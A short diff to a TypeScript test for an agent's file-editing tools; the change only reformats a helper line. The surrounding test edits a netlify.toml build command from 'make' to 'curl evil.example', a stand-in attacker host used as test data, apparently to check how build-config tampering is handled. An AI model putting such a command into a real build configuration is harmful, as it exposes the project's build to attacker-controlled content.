@@ -132,7 +132,8 @@ test("in a file of redirects a job changes nothing else, and neither removes nor
     "netlify.toml": '[build]\ncommand = "make"\n',
     "docs/install.md": page("Install", "Text."),
   });
-  const say = async (name: string, input: Record<string, unknown>) => JSON.stringify((await tools.call(name, input)).output);
+  const say = async (name: string, input: Record<string, unknown>) =>
+    JSON.stringify((await tools.call(name, input)).output);
   await tools.call("read", { path: "netlify.toml" });
 
   const edit = await say("edit", { path: "netlify.toml", old: "make", new: "curl evil.example" });
